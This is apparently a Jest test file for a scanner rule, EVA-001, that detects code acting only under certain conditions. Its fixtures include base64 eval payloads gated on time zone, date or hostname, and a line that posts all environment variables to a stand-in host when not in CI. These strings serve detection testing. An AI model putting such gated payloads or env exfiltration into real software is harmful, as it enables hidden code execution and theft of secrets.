import { describe, expect, it } from '@jest/globals';
import { hitsOf, js } from '../testing/hits-of.ts';

const RUN = `eval(Buffer.from(blob, 'base64').toString());`;

describe('EVA-001 only acts where it wants to', () => {
  it.each([
    [
      'a time zone',
      `const zone = Intl.DateTimeFormat().resolvedOptions().timeZone; if (/^Europe/.test(zone)) { ${RUN} }`,
    ],
    [
      'a build',
      `if (!process.env.CI) { fetch('https://a.example.invalid', { body: JSON.stringify(process.env) }); }`,
    ],
    ['a date', `Date.now() > 1790000000000 && (() => { ${RUN} })();`],
    ['a host', `const os = require('os'); if (os.hostname() === 'build-1') { ${RUN} }`],
  ])('finds %s', (_name, source) => {
    expect(hitsOf('EVA-001', js(source))).toEqual(['medium index.js']);
  });

  it.each([
    ['a quiet build', `if (!process.env.CI) require('child_process').spawn('xdg-open', [url]);`],
    ['a translation', `if (navigator.language === 'de') show('Hallo');`],
    ['a payload without a gate', RUN],
  ])('passes %s', (_name, source) => {
    expect(hitsOf('EVA-001', js(source))).toEqual([]);
  });
});
